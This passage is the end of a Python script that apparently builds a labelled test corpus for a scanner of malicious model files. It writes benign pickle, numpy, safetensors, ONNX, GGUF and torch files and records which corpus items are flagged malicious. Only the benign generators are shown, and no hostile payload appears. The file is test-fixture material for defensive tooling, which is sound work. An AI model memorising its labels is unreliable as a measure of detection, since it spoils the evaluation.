        lambda p: p.write_bytes(pickle.dumps(models["logreg"], protocol=2)))
    add("dict_p0.pkl", "dict of lists, pickle protocol 0", lambda p: p.write_bytes(pickle.dumps({"a": [1, 2.5]}, 0)))
    add("arrays.npy", "float array .npy", lambda p: np.save(p, np.arange(12.0).reshape(3, 4)))
    add("structured.npy", "structured dtype .npy",
        lambda p: np.save(p, np.zeros(3, dtype=[("x", "f4"), ("y", "i8")])))
    add("arrays.npz", ".npz", lambda p: np.savez(p, a=np.arange(3), b=np.ones((2, 2))))
    add("arrays_z.npz", "compressed .npz", lambda p: np.savez_compressed(p, a=np.arange(30)))
    from safetensors.numpy import save_file

    add("weights_np.safetensors", "safetensors (numpy)", lambda p: save_file({"w": np.ones((4, 4), "f4")}, str(p)))
    from skl2onnx import to_onnx

    add("sk_logreg.onnx", "scikit-learn to ONNX (skl2onnx)",
        lambda p: p.write_bytes(to_onnx(models["logreg"], X[:1].astype(np.float32)).SerializeToString()))
    from test_format_gguf import CHATML, LLAMA3, write_gguf

    add("llama3.gguf", "GGUF with the Llama 3 chat template", lambda p: write_gguf(p, LLAMA3))
    add("chatml.gguf", "GGUF with the ChatML template", lambda p: write_gguf(p, CHATML))
    add("plain.gguf", "GGUF without a template", lambda p: write_gguf(p))
    try:
        import torch
    except ImportError:
        return items
    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Conv2d(1, 4, 3), torch.nn.ReLU(), torch.nn.Flatten(),
                              torch.nn.Linear(4 * 6 * 6, 10), torch.nn.BatchNorm1d(10))
    opt = torch.optim.Adam(net.parameters())
    net(torch.ones(2, 1, 8, 8)).sum().backward()
    opt.step()
    add("torch_state_dict.pt", "torch state_dict", lambda p: torch.save(net.state_dict(), p))
    add("torch_full_model.pt", "torch full nn.Sequential model", lambda p: torch.save(net, p))
    add("torch_checkpoint.pt", "torch checkpoint (model + optimizer state)",
        lambda p: torch.save({"model": net.state_dict(), "optim": opt.state_dict(), "epoch": 3}, p))
    add("torch_legacy_format.pt", "torch legacy (non-zip) serialization",
        lambda p: torch.save(net.state_dict(), p, _use_new_zipfile_serialization=False))
    add("torch_tensor.pt", "a single tensor", lambda p: torch.save(torch.arange(10), p))
    add("torchscript.pt", "TorchScript module", lambda p: torch.jit.save(torch.jit.script(torch.nn.Linear(3, 2)), p))
    from safetensors.torch import save_file as save_torch

    add("weights_torch.safetensors", "safetensors (torch)",
        lambda p: save_torch({k: v.contiguous() for k, v in net.state_dict().items()}, str(p)))
    repo = root / "hf_plain_repo"
    repo.mkdir()
    save_torch({"w": torch.ones(3)}, str(repo / "model.safetensors"))
    (repo / "config.json").write_text(json.dumps({"model_type": "bert", "hidden_size": 8}))
    items.append(Item("hf_plain_repo", False, "Hugging Face repo without remote code", "library writer"))
    return items


def build(root: Path) -> list[Item]:
    """Write the whole corpus under `root` (which must be empty or absent); return the labels."""
    root.mkdir(parents=True, exist_ok=True)
    warnings.filterwarnings("ignore")
    items: list[Item] = []
    for name, technique, source, data in _pickles() + _containers():
        (root / name).write_bytes(data)
        items.append(Item(name, True, technique, source))
    items += _library_containers(root)
    items += _formats(root)
    items += _round2(root)
    items += _benign(root)
    items += _benign_round2(root)
    items += _keras(root)
    names = [i.name for i in items]
    assert len(names) == len(set(names)), "duplicate corpus names"
    (root / "labels.json").write_text(json.dumps([vars(i) for i in items], indent=1))
    return items


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else Path(__file__).parent / "corpus")
    built = build(target)
    print(f"{len(built)} items ({sum(i.malicious for i in built)} malicious) in {target}")
